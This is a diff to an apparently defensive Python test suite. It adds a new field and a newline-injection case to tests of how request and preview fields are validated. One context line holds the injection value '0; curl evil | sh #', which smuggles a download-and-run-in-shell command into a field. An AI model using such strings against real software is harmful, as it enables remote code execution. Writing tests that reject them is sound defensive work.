@@ -36,6 +36,7 @@ REQUEST = {
     "choices": [{"id": "allow", "words": "Yes"}],
     "ways": [{"name": "go", "words": "there"}],
     "way": "go",
+    "takes": "one line",
 }
 LOOK = "it does not say what followed; look there"
 
@@ -82,6 +83,7 @@ def test_a_request_is_asked_under_its_name_there_and_has_its_name_here(
         ("request", {"request": {**REQUEST, "digest": "0; curl evil | sh #"}}, None),
         ("request", {"request": {**REQUEST, "choices": [{"id": "a; b", "words": "Yes"}]}}, None),
         ("request", {"request": {**REQUEST, "choices": [{"id": "a", "words": "Y\nb"}]}}, None),
+        ("request", {"request": {**REQUEST, "takes": "a\nb"}}, None),
         ("preview", {}, None),
         ("preview", {"rows": [["x"]]}, None),
         ("preview", {"rows": ["a\nb", "x" * 5000] * 200}, {"rows": ["a b", "x" * 1000] * 100}),
